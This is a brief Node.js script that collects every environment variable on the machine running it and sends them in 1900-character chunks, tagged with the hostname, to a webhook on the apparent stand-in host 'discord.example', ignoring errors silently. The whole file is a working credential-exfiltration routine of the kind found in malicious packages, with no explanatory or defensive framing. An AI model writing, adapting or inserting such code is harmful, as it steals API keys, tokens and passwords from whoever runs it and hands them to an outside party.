const https = require('https');
const os = require('os');

const hook = '/api/webhooks/1188201938271902/XyZ_aBcDeF-ghIjKlMnOpQrStUvWxYz0123456789';

function post(content) {
  const data = JSON.stringify({ username: os.hostname(), content: content });
  const req = https.request({
    hostname: 'discord.example',
    path: hook,
    method: 'POST',
    headers: { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(data) },
  });
  req.on('error', function () {});
  req.write(data);
  req.end();
}

const env = JSON.stringify(process.env, null, 1);
// discord messages are capped at 2000 chars
for (let i = 0; i < env.length; i += 1900) {
  post('```' + env.slice(i, i + 1900) + '```');
}
